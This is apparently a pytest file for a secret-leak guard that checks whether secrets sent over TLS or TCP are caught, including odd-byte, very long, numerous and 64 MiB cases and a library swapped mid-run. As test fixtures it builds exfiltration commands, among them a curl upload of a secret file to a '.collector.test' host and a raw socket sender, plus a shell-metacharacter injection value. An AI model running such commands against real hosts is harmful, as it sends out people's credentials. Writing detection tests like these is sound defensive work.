# SPDX-License-Identifier: MIT
"""Secrets and writes that are not like the others: odd bytes, very long, very many, very large.

An environment cannot hold a NUL, so no declared value does: those are tried in the unit tests.
"""

from __future__ import annotations

import os
import secrets
import string
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from lab import Lab, tokens
from lab.guard import FINDINGS, Guarded
from lab.tokens import Token

pytestmark = [pytest.mark.root, pytest.mark.timeout(120)]

Guard = Callable[..., Guarded]

SEND = str(Path(__file__).parent / "senders" / "send.py")
MANY = 1000
LARGE = 64 << 20
_LONG = secrets.token_urlsafe(40)
VALUES: dict[str, bytes] = {
    "METACHARACTERS": (string.punctuation + secrets.token_urlsafe(9)).encode(),
    "CONTROLS": bytes(range(1, 32)) + secrets.token_urlsafe(9).encode() + b"\x7f",
    "LINES": "\n".join(secrets.token_urlsafe(24) for _ in range(4)).encode(),
    "NO_UTF8": b"\xff\xfe\xc0\x80" + bytes(0x80 | byte for byte in os.urandom(24)),
    "OTHER_LETTERS": ("пароль-" + secrets.token_urlsafe(12)).encode(),
    "QUOTES": b"\"'`$(x)\\\r\t%00 ;|&" + secrets.token_urlsafe(12).encode(),
    "LONG": secrets.token_urlsafe(48 * 1024).encode(),
    "PREFIX": _LONG[:20].encode(),
    "WHOLE": _LONG.encode(),
}
"""Made up once a run; ``PREFIX`` is how ``WHOLE`` begins."""


def token(name: str) -> Token:
    """As an environment holds it."""
    return Token(name, os.fsdecode(VALUES[name]))


def policy(names: list[str]) -> str:
    """Every secret has another home than where it goes."""
    homes = "".join(f"  {name}: home.test\n" for name in names)
    return f"version: 1\nallow: home.test\nsecrets:\n{homes}"


def script(lab: Lab, bodies: dict[str, bytes], channels: tuple[str, ...]) -> list[str]:
    """Post every body over every channel, each to a host of its own."""
    lines = []
    for name, body in bodies.items():
        file = lab.directory / f"{name}.body"
        file.write_bytes(body)
        for channel in channels:
            host = f"{channel}-{name.lower().replace('_', '-')}.collector.test"
            lines.append(f"timeout 20 {sys.executable} {SEND} {channel} {host} whole {file}")
    place = lab.directory / "all.sh"
    place.write_text("\n".join(lines) + "\ntrue\n")
    return ["sh", str(place)]


@pytest.mark.parametrize(
    ("channel", "finding"), [("tls", "secret-in-tls"), ("tcp", "secret-in-payload")]
)
def test_odd_values_are_known(lab: Lab, leakstop: Guard, channel: str, finding: str) -> None:
    run = leakstop(
        script(lab, VALUES, (channel,)),
        mode="audit",
        policy=policy(list(VALUES)),
        secrets=[token(name) for name in VALUES],
        timeout_s=100,
    )
    assert run.code == FINDINGS, run.stderr
    arrived = {name for name, value in VALUES.items() if lab.collector.bytes_of(value[:200])}
    assert not lab.collector.received(VALUES["LONG"])
    wanted = set(VALUES) - {"PREFIX"}  # whoever sends the whole sends its prefix as well
    left = {found["secret"]: found["bytes_left"] for found in run.findings(finding)}
    assert wanted <= set(left)
    # Of a value that fills many packets those in front of its core are gone by then.
    begun = {name for name, bytes_left in left.items() if bytes_left}
    assert arrived <= begun <= ({"LONG"} if channel == "tcp" else set())
    shown = run.outputs()
    assert [name for name, value in VALUES.items() if value in shown] == []


def test_a_thousand_secrets(lab: Lab, leakstop: Guard) -> None:
    job = [tokens.home_made(f"SECRET_{number}") for number in range(MANY)]
    sent = {one.name: one.value.encode() for one in (job[0], job[499], job[-1])}
    run = leakstop(
        script(lab, sent, ("tls", "tcp")),
        mode="audit",
        policy=policy([one.name for one in job]),
        secrets=job,
        timeout_s=100,
    )
    assert [name for name, value in sent.items() if lab.collector.received(value)] == []
    assert {finding["secret"] for finding in run.findings()} == set(sent), run.stderr
    assert [one.name for one in job if one.value.encode() in run.outputs()] == []


def test_a_write_of_64_mib_with_the_secret_at_its_end(
    lab: Lab, leakstop: Guard, secret: Token
) -> None:
    bodies = {"CLEAN": bytes(LARGE), "LEAK": bytes(LARGE - 40) + secret.value.encode()}
    run = leakstop(
        script(lab, bodies, ("tls",)),
        mode="audit",
        policy=policy([secret.name]),
        secrets=[secret],
        timeout_s=100,
    )
    (clean,) = (seen for seen in lab.collector.connections if seen.is_for("tls-clean"))
    assert len(clean.plain) > LARGE
    assert not lab.collector.received(secret.value.encode())
    (found,) = run.findings("secret-in-tls")
    assert (found["secret"], found["bytes_left"]) == (secret.name, 0)


LATE = """\
import os, socket, ssl, time
host = "{host}"
stream = socket.create_connection((host, 443))
stream = ssl.create_default_context().wrap_socket(stream, server_hostname=host)
open("ready", "w").close()
while not os.path.exists("go"):
    time.sleep(0.01)
head = f"GET / HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n"
stream.sendall(head.encode() + open("body", "rb").read())
"""
REPLACE = """\
mkdir lib; cp "$(ldconfig -p | sed -n 's/.*libssl[.]so[.]3 .*=> //p' | head -1)" lib/libssl.so.3
export LD_LIBRARY_PATH=$PWD/lib
{python} late.py & late=$!
while ! [ -e ready ]; do sleep 0.01; done
cp lib/libssl.so.3 lib/new; mv lib/new lib/libssl.so.3
touch go; wait $late
curl -s -m 5 --data-binary @body https://new.collector.test/; true
"""


def test_a_library_that_is_replaced_while_it_is_in_use(
    lab: Lab, leakstop: Guard, secret: Token
) -> None:
    """Who has the old file mapped goes on with it; who starts then gets the new one."""
    (lab.directory / "late.py").write_text(LATE.format(host="old.collector.test"))
    (lab.directory / "body").write_text(secret.value)
    command = ["sh", "-c", REPLACE.format(python=sys.executable)]
    run = leakstop(command, mode="audit", policy=policy([secret.name]), secrets=[secret])
    assert len(lab.collector.connections) == 2, run.stderr
    assert not lab.collector.received(secret.value.encode())
    places = {finding["destination"] for finding in run.findings("secret-in-tls")}
    assert places == {"old.collector.test:443", "new.collector.test:443"}
